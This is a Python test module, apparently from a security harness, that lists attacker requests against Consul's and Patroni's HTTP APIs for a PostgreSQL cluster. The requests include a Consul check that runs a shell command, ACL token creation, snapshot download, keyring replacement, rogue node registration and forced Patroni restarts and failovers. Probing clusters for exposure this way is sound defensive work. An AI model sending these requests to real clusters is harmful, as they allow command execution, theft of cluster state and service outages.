"""What an attacker asks Consul's and Patroni's HTTP APIs for."""

from __future__ import annotations

import json
from collections.abc import Sequence
from typing import Any

CONFIG = "service/pg-15-cluster/config"
"""Where the cluster's dynamic configuration lies: whoever writes it runs programs as postgres on every member."""

_CHECK = {"Name": "stranger", "Args": ["/bin/sh", "-c", "id >/tmp/owned-check"], "Interval": "1s"}
# "@" is this member, "#" another one.
AGENT: tuple[tuple[str, str, Any], ...] = (
    ("GET", "/v1/kv/%k", None),
    ("GET", "/v1/kv/?recurse", None),
    ("GET", "/v1/kv/?keys", None),
    ("PUT", "/v1/kv/%k", "%p"),
    ("PUT", "/v1/kv/stranger", "x"),
    ("PUT", "/v1/txn", [{"KV": {"Verb": "set", "Key": "stranger", "Value": "eA=="}}]),
    ("PUT", "/v1/session/create", {"Name": "stranger"}),
    ("GET", "/v1/session/list", None),
    ("GET", "/v1/agent/self", None),
    ("GET", "/v1/agent/metrics", None),
    ("GET", "/v1/agent/host", None),
    ("GET", "/v1/agent/connect/ca/leaf/stranger", None),
    ("GET", "/debug/pprof/heap", None),
    ("PUT", "/v1/agent/service/register", {"Name": "stranger", "Check": _CHECK}),
    ("PUT", "/v1/agent/service/register", {"Name": "pg-15-cluster", "ID": "stranger", "Address": "10.129.0.66"}),
    ("PUT", "/v1/agent/service/deregister/pg-15-cluster%2F@", None),
    ("PUT", "/v1/agent/service/maintenance/pg-15-cluster%2F@?enable=true", None),
    ("PUT", "/v1/agent/check/register", _CHECK),
    ("PUT", "/v1/agent/check/fail/service:pg-15-cluster%2F@", None),
    ("PUT", "/v1/agent/token/agent", {"Token": "stranger"}),
    ("PUT", "/v1/agent/join/10.129.0.66", None),
    ("PUT", "/v1/agent/reload", None),
    ("PUT", "/v1/agent/maintenance?enable=true", None),
    ("PUT", "/v1/agent/force-leave/#", None),
    ("PUT", "/v1/catalog/register", {"Node": "stranger", "Address": "10.129.0.66"}),
    ("PUT", "/v1/catalog/deregister", {"Node": "#"}),
    ("PUT", "/v1/coordinate/update", {"Node": "#", "Coord": {"Vec": [0] * 8, "Error": 1.5, "Height": 0}}),
    ("PUT", "/v1/event/fire/stranger", "x"),
    ("POST", "/v1/query", {"Name": "stranger", "Service": {"Service": "stranger"}}),
    ("PUT", "/v1/config", {"Kind": "service-defaults", "Name": "stranger"}),
    ("POST", "/v1/connect/intentions", {"SourceName": "*", "DestinationName": "*", "Action": "deny"}),
    ("PUT", "/v1/connect/ca/configuration", {"Provider": "consul"}),
    ("GET", "/v1/snapshot", None),
    ("PUT", "/v1/snapshot", "x"),
    ("GET", "/v1/operator/raft/configuration", None),
    ("DELETE", "/v1/operator/raft/peer?id=stranger", None),
    ("GET", "/v1/operator/keyring", None),
    ("POST", "/v1/operator/keyring", {"Key": "AAAAAAAAAAAAAAAAAAAAAA=="}),
    ("GET", "/v1/operator/autopilot/configuration", None),
    ("PUT", "/v1/operator/autopilot/configuration", {"CleanupDeadServers": True}),
    ("PUT", "/v1/acl/bootstrap", None),
    ("GET", "/v1/acl/tokens", None),
    ("PUT", "/v1/acl/token", {"Description": "stranger"}),
    ("PUT", "/v1/acl/policy", {"Name": "stranger", "Rules": ""}),
    ("PUT", "/v1/acl/create", {"Name": "stranger", "Type": "management"}),
    ("POST", "/v1/acl/login", {"AuthMethod": "stranger", "BearerToken": "x"}),
    ("PUT", "/v1/agent/leave", None),
)

# What changes something, of Patroni's api.py.
REST: tuple[tuple[str, str, Any], ...] = (
    ("PATCH", "/config", "%p"),
    ("PUT", "/config", "%p"),
    ("POST", "/restart", {}),
    ("DELETE", "/restart", None),
    ("POST", "/reload", None),
    ("POST", "/reinitialize", {"force": True}),
    ("POST", "/switchover", {"leader": "#"}),
    ("DELETE", "/switchover", None),
    ("POST", "/failover", {"candidate": "@"}),
    ("POST", "/failsafe", {"name": "stranger", "conn_url": "x", "api_url": "x", "slots": {}}),
    ("POST", "/sigterm", None),
    ("POST", "/citus", {}),
    ("POST", "/mpp", {}),
)


def requests_of(
    attempts: Sequence[tuple[str, str, Any]], payload: str, member: str, other: str, host: str, port: int, **more: Any
) -> list[dict[str, Any]]:
    """Attempts as attacker.requests takes them.

    Args:
        attempts: AGENT or REST.
        payload: the cluster's configuration as the attacker would have it.
        member: the name of this member.
        other: the name of another one.
        host: where to.
        port: its port.
        more: of attacker.request.
    """
    found = []
    for method, path, body in attempts:
        text = body if isinstance(body, str) or body is None else json.dumps(body)
        text = None if text is None else text.replace("%p", payload).replace('"#"', json.dumps(other))
        text = None if text is None else text.replace('"@"', json.dumps(member))
        where = path.replace("%k", CONFIG).replace("@", member).replace("#", other)
        name = f"{method} {where} {text or ''}".strip()[:80]
        found.append({"name": name, "host": host, "port": port, "method": method, "path": where, "body": text, **more})
    return found
